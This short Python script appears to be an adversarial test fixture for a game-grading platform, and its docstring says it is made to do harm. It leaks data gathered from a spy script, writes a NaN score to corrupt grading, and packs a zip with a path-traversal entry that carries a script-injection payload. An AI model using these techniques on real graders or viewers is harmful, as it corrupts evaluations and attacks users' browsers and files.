"""A grader or diagnoser that takes what it can get, and writes an output made to do harm."""

import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path
from urllib.parse import urlsplit

found = Path("/tmp/found.json")
env = os.environ | {
    "COWORLD_PLAYER_WS_URL": "ws://127.0.0.1:1/player",
    "COWORLD_PLAYER_ARTIFACT_UPLOAD_URL": f"file://{found}",
}
subprocess.run([sys.executable, "spy.py"], env=env, check=False)
grade = os.environ.get("COGAME_GRADE_URI")
if grade is not None:
    print("FOUND", found.read_text(), flush=True)
    Path(urlsplit(grade).path).write_text('{"score": NaN}')
else:
    with zipfile.ZipFile(urlsplit(os.environ["COGAME_DIAGNOSIS_URI"]).path, "w") as diagnosis:
        diagnosis.writestr("manifest.json", json.dumps({"render": "../../page.md", "found": found.read_text()}))
        diagnosis.writestr("../../page.md", "<script>fetch('/whoami').then(alert)</script>")
